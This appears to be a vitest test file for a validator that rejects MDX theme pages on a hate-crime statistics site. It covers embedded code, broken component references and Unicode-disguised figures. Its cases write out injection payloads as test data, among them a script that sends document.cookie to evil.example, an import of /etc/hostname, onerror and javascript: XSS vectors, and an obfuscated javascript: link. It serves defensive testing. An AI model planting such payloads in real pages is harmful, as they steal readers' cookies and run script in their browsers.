/**
 * Issue #27, classes 1, 2 and 9: theme pages are data, not code, and `npm run validate` refuses every
 * page the build could not render. Each case below is one edit to a copy of the real hate-crime page;
 * the folder is then checked in-process exactly as `npm run validate` checks it (checkThemeFolder),
 * and must be refused with file:line:column and the cause named. Before #27 every one of these passed
 * validate (and most failed the build after seconds of rendering, with a stack trace, or published the
 * payload).
 */
import { readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import { formatContentProblem } from '../../src/validate/scan-mdx.ts';
import { loadCatalog } from '../../src/data/load.ts';
import { DATASET_SCHEMAS } from '../../src/schemas/index.ts';
import { checkThemeFolder } from '../../src/validate/theme-pages.ts';
import { editFile } from '../support/fixtures.ts';
import { copyThemes } from '../support/broken-copies.ts';

const ROOT = resolve(import.meta.dirname, '../..');
const catalog = loadCatalog(join(ROOT, 'data'), DATASET_SCHEMAS);
const PAGE = 'hate-crime.mdx';
const ANCHOR = '\n\n## ';

/** [what, search, replacement, message fragment]; the replacement goes in before the first "## " heading unless a search is given. */
const BROKEN: [string, string | undefined, string, string][] = [
  // 1. Code in a page
  [
    'an import of a file on the build machine',
    undefined,
    "import host from '/etc/hostname?raw'",
    'expected no import or export statements',
  ],
  ['an export', undefined, 'export const n = 3', 'expected no import or export statements'],
  ['the environment in an expression', undefined, 'The build ran as {process.env.USER}.', 'found {process.env.USER}'],
  ['a number computed without a digit', undefined, "There were {'abc'.length} reviews.", "found {'abc'.length}"],
  [
    'a <script> element',
    undefined,
    '<script>{`fetch("https://evil.example/?" + document.cookie)`}</script>',
    'found <script>',
  ],
  ['a <style> element', undefined, '<style>{`body { display: none }`}</style>', 'found <style>'],
  ['an <img onerror>', undefined, '<img src="x" onerror="alert(1)" />', 'found <img>'],
  [
    'an event handler on a component',
    undefined,
    '<Term id="marac" onclick="alert(1)" />',
    '<Term> takes no prop "onclick"',
  ],
  [
    'a javascript: link',
    undefined,
    'See [the report](javascript:alert(document.domain)).',
    'found the javascript: address',
  ],
  [
    'a javascript: link hidden by case and a character reference',
    undefined,
    'See [the report](&#74;aVaScRiPt:alert(1)).',
    'found the javascript: address',
  ],
  ['a data: link', undefined, 'See [this](data:text/html,hello).', 'found the data: address'],
  ['a spread of props', undefined, '<Term {...props} />', 'uses a spread'],
  // 2. References the build could not resolve
  ['an undefined component', undefined, '<Chart of="hate-crime" />', 'found <Chart>, which is not defined'],
  [
    '<Value> naming a missing row whose key has no digit',
    undefined,
    '<Value of="hate-crime" row="worcestershire|nowhen|offences" />',
    'dataset "hate-crime" has no row "worcestershire|nowhen|offences"',
  ],
  [
    '<Value> naming a missing dataset',
    undefined,
    '<Value of="hate-crimes" row="worcestershire" />',
    'there is no dataset "hate-crimes"',
  ],
  ['<Value> without a row', undefined, '<Value of="hate-crime" />', '<Value> needs the prop row="…"'],
  [
    '<Value> on a dataset that is not figures',
    undefined,
    '<Value of="glossary" row="marac" />',
    'dataset "glossary" is not a figure dataset',
  ],
  ['an unknown <Term>', undefined, 'a <Term id="no-such-term" /> here', 'no term "no-such-term" in data/glossary.csv'],
  ['an unknown <Figure>', undefined, '<Figure id="hate-crime-by-area" />', 'no figure "hate-crime-by-area"'],
  [
    'an unknown theme in <ThemeLink>',
    undefined,
    'See <ThemeLink theme="knife-crime" />.',
    'no theme "knife-crime" in data/themes.csv',
  ],
  ['an unknown theme in <Activities>', undefined, '<Activities theme="knife-crime" />', 'no theme "knife-crime"'],
  ['an unknown set of helplines', undefined, '<Helplines for="everyone" />', 'no such set of helplines'],
  ['a period that is not one', undefined, 'In <Period id="last-year" />.', '"last-year" is not a period'],
  [
    'a filter on a column that does not exist',
    undefined,
    '<Count of="activities" colour="red" />',
    'dataset "activities" has no column "colour"',
  ],
  [
    'a value not among the choices',
    undefined,
    '<Change of="hate-crime" from="worcestershire|2016/17|offences" to="worcestershire|2017/18|offences" words="sideways" />',
    'expected one of signed, verb',
  ],
  ['a boolean written as a string', undefined, '<Term id="marac" short="yes" />', 'expected short on its own'],
  ['a heading level out of range', undefined, '<Figure id="hate-crime-trend" level={7} />', 'expected a heading level'],
  [
    'a <Change> whose direction contradicts the sentence',
    undefined,
    '<Change of="hate-crime" from="north-worcestershire|2016/17|hate-offences" to="north-worcestershire|2017/18|hate-offences" expect="down" />',
    'expect="down", but the data rose',
  ],
  [
    'a <Sum> of shares',
    undefined,
    '<Sum of="alcohol-violence" rows="worcestershire|2014-02/2015-02|vap-injury-alcohol-marker-share;worcestershire|2016-02/2017-02|vap-injury-alcohol-marker-share" />',
    'only counts, money or staff time',
  ],
  [
    'a <Value> of a count written as a verb',
    undefined,
    '<Value of="hate-crime" row="north-worcestershire|2017/18|hate-offences" words="verb" />',
    'only a percent-change row can be written as a verb',
  ],
  [
    'a frontmatter key the schema does not know',
    'lastReviewed:',
    'colour: red\nlastReviewed:',
    'expected only the frontmatter fields',
  ],
  ['a frontmatter value of the wrong type', 'order: 4', 'order: four', 'frontmatter field "order": expected number'],
  // 9. Figures a reader sees though a search for digits does not
  ['a number word with a Cyrillic letter', undefined, 'There were thr\u0435e reviews.', 'the number word "three"'],
  ['a number word with a soft hyphen', undefined, 'Several hun\u00addred offences.', 'the number word "hundred"'],
  ['a number word with a zero-width space', undefined, 'Over a thou\u200bsand reports.', 'the number word "thousand"'],
  ['a Greek omicron in a number word', undefined, 'Only \u03bfne in f\u03bfur.', 'the number word "four"'],
  ['mathematical bold digits', undefined, 'There were \u{1d7d1}\u{1d7d1} reviews.', 'in the text looks like a figure'],
  ['a Roman numeral', undefined, 'The report lists XII reviews.', 'the Roman numeral "XII"'],
  ['a fraction in words', undefined, 'Reports were a fifth more than before.', 'the fraction in words "a fifth"'],
  ['two-thirds', undefined, 'Some two-thirds of cases.', 'two'],
];

function brokenCopy(search: string | undefined, replacement: string): string {
  const dir = copyThemes();
  if (search) editFile(join(dir, PAGE), search, replacement);
  else editFile(join(dir, PAGE), ANCHOR, `\n\n${replacement}${ANCHOR}`);
  return dir;
}

describe('npm run validate refuses a page the build could not render, or that runs code', () => {
  it('passes the real pages', () => {
    expect(checkThemeFolder(join(ROOT, 'content/themes'), catalog, ROOT).problems).toEqual([]);
  });

  it.each(BROKEN)('%s', (_what, search, replacement, fragment) => {
    const dir = brokenCopy(search, replacement);
    const { problems } = checkThemeFolder(dir, catalog, dir);
    expect(problems.length, JSON.stringify(problems)).toBeGreaterThan(0);
    const mine = problems.find((p) => p.message.includes(fragment));
    expect(mine, problems.map(formatContentProblem).join('\n')).toBeDefined();
    // file:line:column, pointing into the edited page at the line the edit is on
    expect(mine!.file).toBe(PAGE);
    const lines = readFileSync(join(dir, PAGE), 'utf8').split('\n');
    const first = replacement.split('\n')[0]!;
    expect(lines[mine!.line! - 1]).toContain(first.slice(0, 12));
    expect(mine!.column).toBeGreaterThanOrEqual(1);
    expect(formatContentProblem(mine!)).toMatch(/^hate-crime\.mdx:\d+:\d+: /);
    expect(formatContentProblem(mine!)).not.toMatch(/\n\s+at /);
  });

  it('allows a comment and the literal props the components take', () => {
    const dir = brokenCopy(
      undefined,
      '{/* A note for editors. */}\n\n<Figure id="hate-crime-trend" level={3} compact />\n\n<Term id="marac" short />',
    );
    expect(checkThemeFolder(dir, catalog, dir).problems).toEqual([]);
  });
});
